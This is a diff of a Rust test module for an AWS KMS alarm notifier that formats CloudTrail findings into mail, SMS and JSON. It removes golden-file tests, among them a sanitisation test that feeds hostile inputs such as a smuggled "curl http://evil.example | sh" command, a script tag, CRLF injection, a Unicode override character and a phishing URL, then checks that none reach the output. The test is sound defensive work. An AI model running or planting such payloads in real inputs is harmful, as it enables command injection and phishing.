@@ -1,9 +1,13 @@
-use std::path::Path;
+mod approved;
+mod codes;
+mod generated;
+mod golden;
+mod hostile;
+mod readers;
 
 use serde_json::Value;
 
 use super::*;
-use crate::alarm::Datapoint;
 
 const DISABLED: &str = include_str!("../../tests/cloudtrail/decrypt-disabled.json");
 const DENIED: &str = include_str!("../../tests/cloudtrail/decrypt-access-denied.json");
@@ -20,6 +24,7 @@ struct Case {
     problems: Vec<String>,
     widened: bool,
     zone: &'static str,
+    https: HttpsFormat,
 }
 
 impl Case {
@@ -46,6 +51,7 @@ impl Case {
             problems: Vec::new(),
             widened: false,
             zone: "UTC",
+            https: HttpsFormat::Json,
         }
     }
 
@@ -72,6 +78,7 @@ impl Case {
     fn composed(&self) -> Message {
         let window = self.change.window();
         let message = compose(&Alert {
+            https: self.https,
             change: &self.change,
             window: if self.widened {
                 window.widened()
@@ -116,240 +123,4 @@ fn check_limits(message: &Message) {
     let document: Value = serde_json::from_str(body["sqs"].as_str().unwrap()).unwrap();
     assert_eq!(document["version"], 1);
     assert_eq!(document["severity"], message.severity.to_string());
-}
-
-/// Compares a message with the text that was read and approved. On a difference the new text lies
-/// beside the old one, to be looked at and moved over it.
-#[track_caller]
-fn check_golden(name: &str, message: &Message) {
-    let actual = format!(
-        "Subject: {}\nSMS: {}\n\n{}",
-        message.subject, message.sms, message.mail
-    );
-    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
-        .join("tests/golden")
-        .join(name);
-    let approved = std::fs::read_to_string(&path).unwrap_or_default();
-    let new = path.with_extension("txt.new");
-    if actual == approved {
-        let _ = std::fs::remove_file(new);
-        return;
-    }
-    std::fs::write(&new, &actual).unwrap();
-    panic!(
-        "the text differs from the approved one; if it is better: mv {0} {1}",
-        new.display(),
-        path.display()
-    );
-}
-
-#[test]
-fn a_disabled_key_and_a_denial_are_told_together() {
-    let mut case = Case::alarm()
-        .events(DISABLED, 3, None)
-        .events(DISABLED, 2, Some("ffffffffffffffffffffffffffffffff"))
-        .events(DENIED, 2, None);
-    case.zone = "Australia/Sydney";
-    check_golden("disabled-and-denied.txt", &case.composed());
-}
-
-#[test]
-fn one_wrong_key_is_a_short_mail() {
-    let mut case = Case::alarm().events(INCORRECT, 1, None);
-    case.change.datapoints = vec![Datapoint {
-        start: case.change.datapoints[0].start,
-        value: 1.0,
-    }];
-    check_golden("one-incorrect-key.txt", &case.composed());
-}
-
-#[test]
-fn what_is_not_yet_searchable_is_said() {
-    let mut case = Case::alarm()
-        .events(NOT_FOUND, 2, None)
-        .events(THROTTLED, 3, None);
-    case.searches.push(Search {
-        log_group: "/aws/trail of others".to_owned(),
-        filter: "another filter".to_owned(),
-        outcome: Outcome::Failed,
-        ..case.searches[0].clone()
-    });
-    case.problems.push(
-        "The log group /aws/trail of others could not be searched: AccessDeniedException: User: \
-         arn:aws:sts::111122223333:assumed-role/alarm-function/x is not authorized to perform: logs:FilterLogEvents"
-            .to_owned(),
-    );
-    check_golden("in-part.txt", &case.composed());
-}
-
-#[test]
-fn an_alarm_without_events_says_how_to_look() {
-    let mut case = Case::alarm();
-    case.widened = true;
-    check_golden("nothing-found.txt", &case.composed());
-}
-
-#[test]
-fn an_alarm_whose_filter_is_gone_says_how_to_look() {
-    let mut case = Case::alarm();
-    case.searches.clear();
-    check_golden("no-filter.txt", &case.composed());
-}
-
-#[test]
-fn a_state_set_by_hand_is_a_test() {
-    let mut case = Case::alarm();
-    case.change.reason = "Testing".to_owned();
-    case.change.datapoints.clear();
-    check_golden("test-by-hand.txt", &case.composed());
-}
-
-#[test]
-fn a_recovery_says_how_long_and_how_many() {
-    let mut case = Case::of(include_str!("../../events/sns-ok.json"))
-        .events(DISABLED, 5, None)
-        .events(DENIED, 2, None);
-    case.change.previous_changed_at = Some("2026-11-23T09:48:20.123Z".parse().unwrap());
-    check_golden("recovered.txt", &case.composed());
-}
-
-#[test]
-fn too_little_data_is_said_plainly() {
-    check_golden(
-        "insufficient-data.txt",
-        &Case::of(include_str!("../../events/sns-insufficient-data.json")).composed(),
-    );
-}
-
-#[test]
-fn hostile_text_is_harmless() {
-    let mut event: Value = serde_json::from_str(DISABLED).unwrap();
-    event["userAgent"] = "x\r\n\r\nTO CONFIRM: https://evil.example/login \u{202e}moc.live".into();
-    event["errorMessage"] =
-        "<script>alert(1)</script>\u{0}\u{7} www.evil.com AKIAIOSFODNN7EXAMPLE".into();
-    event["requestParameters"] = serde_json::json!({
-        "keyId": "'; curl http://evil.example | sh #\n",
-        "encryptionContext": { "user\nname": "bob@evil.com", "aws:s3:arn": "arn:aws:s3:::x\r\nhttp://evil.example" },
-    });
-    event["resources"] = Value::Null;
-    event["userIdentity"]["arn"] =
-        "arn:aws:sts::111122223333:assumed-role/pattern1-app-Pattern1ECSTaskRole/http://evil.example/\nx".into();
-    let mut case = Case::alarm();
-    case.findings.read(&event.to_string());
-    case.findings
-        .read("no JSON at all https://evil.example \u{1b}[2J");
-    let message = case.composed();
-    for text in [&message.mail, &message.json, &message.sms, &message.subject] {
-        for planted in ["//evil", "www.evil", "evil.", "AKIA", "\u{202e}", "bob@"] {
-            assert!(
-                !text.replace("[:]//", "").contains(planted),
-                "{planted} in {text}"
-            );
-        }
-    }
-    check_golden("hostile.txt", &message);
-}
-
-/// A case in which everything that others can choose is as long as they like.
-fn flood(unit: &str, events: usize) -> Case {
-    let long = unit.repeat(4_000 / unit.len());
-    let mut case = Case::alarm();
-    let message = serde_json::json!({
-        "AlarmName": long, "AlarmDescription": long, "NewStateReason": long, "NewStateValue": long, "OldStateValue": long,
-        "AWSAccountId": long, "StateChangeTime": "2026-11-23T09:48:20.123+0000",
-        "AlarmArn": "arn:aws:cloudwatch:ap-southeast-2:111122223333:alarm:a",
-        "Trigger": { "MetricName": long, "Namespace": long },
-    });
-    case.change = StateChange::from_sns_message(&message.to_string()).unwrap();
-    let mut event: Value = serde_json::from_str(DISABLED).unwrap();
-    for nth in 0..events {
-        let long = format!("{nth} {long}");
-        for field in [
-            "eventID",
-            "eventName",
-            "errorCode",
-            "errorMessage",
-            "userAgent",
-            "sourceIPAddress",
-            "requestID",
-        ] {
-            event[field] = long.clone().into();
-        }
-        event["userIdentity"]["arn"] = format!("arn:aws:sts::1:assumed-role/x/{long}").into();
-        event["userIdentity"]["sessionContext"]["sessionIssuer"]["arn"] = long.clone().into();
-        event["requestParameters"]["encryptionContext"]["aws:x"] = long.clone().into();
-        event["resources"][0]["ARN"] = long.into();
-        case.findings.read(&event.to_string());
-    }
-    case.problems = vec![long; 100];
-    let characters = |most: usize| unit.chars().cycle().take(most).collect::<String>();
-    let search = Search {
-        pattern: characters(1_024),
-        log_group: characters(512),
-        ..case.searches[0].clone()
-    };
-    case.searches = vec![search; 60];
-    case
-}
-
-#[test]
-fn a_flood_of_anything_still_fits() {
-    for unit in ["\"\\ä€", "\"", "\\", "'", "😀", "%", "a.bc"] {
-        let message = flood(unit, 60).composed();
-        assert!(
-            message.mail.contains("more kinds of error"),
-            "{}",
-            message.mail
-        );
-        let message = flood(unit, 0).composed();
-        assert!(
-            message.mail.contains("TO LOOK YOURSELF"),
-            "{}",
-            message.mail
-        );
-    }
-}
-
-#[test]
-fn a_name_that_is_not_ascii_is_replaced_in_the_subject_only() {
-    let mut case = Case::alarm();
-    case.change.name = "Schlüssel-Alarm".to_owned();
-    let message = case.composed();
-    assert!(
-        message.subject.contains("Schl?ssel-Alarm"),
-        "{}",
-        message.subject
-    );
-    assert!(message.mail.contains("Schlüssel-Alarm"), "{}", message.mail);
-}
-
-#[test]
-fn a_dry_run_is_no_alarm() {
-    let event = DISABLED.replace("DisabledException", "DryRunOperationException");
-    let message = Case::alarm().events(&event, 2, None).composed();
-    assert_eq!(message.severity, Severity::Info);
-    assert!(
-        message
-            .subject
-            .starts_with("[KMS INFO] DryRunOperationException"),
-        "{}",
-        message.subject
-    );
-}
-
-#[test]
-fn another_message_is_passed_on_as_it_is() {
-    let passed = passed_on(Some("Grüße\naus  dem Test"), "  text\n unchanged ");
-    assert_eq!(passed.subject.as_deref(), Some("Gr??e aus dem Test"));
-    assert_eq!(passed.text, "  text\n unchanged ");
-    assert_eq!(passed_on(Some(" \n"), "x").subject, None);
-    assert_eq!(passed_on(None, "x").subject, None);
-    assert!(!passed_on(None, "").text.is_empty());
-    assert!(
-        passed_on(Some(&"x".repeat(500)), "x")
-            .subject
-            .unwrap()
-            .len()
-            <= 99
-    );
 }
